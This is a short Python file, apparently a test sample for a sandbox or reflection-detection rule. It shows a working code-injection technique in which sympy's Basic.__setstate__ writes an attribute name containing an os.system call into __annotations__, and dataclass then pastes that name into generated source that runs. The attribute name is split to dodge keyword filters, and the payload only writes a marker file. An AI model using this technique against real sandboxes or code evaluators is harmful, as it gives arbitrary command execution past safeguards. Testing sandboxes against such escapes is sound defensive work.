# rule: reflection
# marker: pwned_f1_setstate
# Family 1: sympy's Basic.__setstate__, called on a class, sets any attribute
# of it: here __annotations__, whose keys @dataclass pastes into source.
import sympy, dataclasses
class C:
    pass
name = "x,__import__('os').system('echo ran > pwned_f1_setstate')"
sympy.Basic.__setstate__(C, {"__annota" + "tions__": {name: int}})
D = dataclasses.dataclass(C, init=False, repr=False)
a, b = D(), D()
a.x = b.x = 1
a == b
